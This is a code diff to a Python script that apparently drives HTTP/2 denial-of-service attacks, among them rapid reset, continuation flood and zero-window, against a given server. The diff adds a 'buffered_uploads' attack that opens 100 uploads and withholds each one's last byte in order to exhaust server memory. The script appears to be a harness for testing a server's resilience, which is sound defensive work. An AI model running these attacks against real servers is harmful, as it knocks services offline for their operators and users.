@@ -210,6 +210,44 @@ def many_fields(host, port):
         sock.sendall(conn.data_to_send())
     return "statuses " + " ".join(statuses.get(s, "none") for s in fields), len(fields)
 
+def buffered_uploads(host, port, streams=100, length=1000000, seconds=8):
+    """STREAMS POSTs to /upload/buffered announcing LENGTH bytes each, sending all but the last byte
+    as fast as the server's windows allow, for SECONDS: `uploaded B` (the bytes the server took)."""
+    sock, conn = connect(host, port)
+    for i in range(streams):
+        headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"localhost"),
+                   (b":path", b"/upload/buffered/%d" % i), (b"content-length", b"%d" % length)]
+        conn.send_headers(1 + 2 * i, headers)
+    sock.sendall(conn.data_to_send())
+    left = {1 + 2 * i: length - 1 for i in range(streams)}
+    chunk = b"x" * conn.max_outbound_frame_size
+    sock.settimeout(0.05)
+    deadline = time.monotonic() + seconds
+    uploaded = 0
+    while time.monotonic() < deadline:
+        for stream, remaining in left.items():
+            try:
+                window = conn.local_flow_control_window(stream)
+            except h2.exceptions.StreamClosedError:
+                continue
+            size = min(remaining, window, len(chunk))
+            if size > 0:
+                conn.send_data(stream, chunk[:size])
+                left[stream] -= size
+                uploaded += size
+        if not send_quietly(sock, conn.data_to_send()):
+            break
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            break
+        if not data:
+            break
+        conn.receive_data(data)
+    return "uploaded %d" % uploaded, streams
+
 def settings(host, port):
     """Not an attack: what the server grants, as `settings max_concurrent_streams=N
     max_header_list_size=M initial_window_size=W connection_window=C`, C being the connection's window
@@ -272,7 +310,7 @@ def backend(host, port):
 ATTACKS = {"backend": backend, "settings": settings, "rapid_reset": rapid_reset, "continuation_flood": continuation_flood, "silent": silent,
            "zero_window": zero_window, "silent_forever": silent_forever,
            "silent_after_a_request": silent_after_a_request, "late_preface": late_preface,
-           "many_fields": many_fields}
+           "many_fields": many_fields, "buffered_uploads": buffered_uploads}
 
 if __name__ == "__main__":
     host, port, attack = sys.argv[1:4]
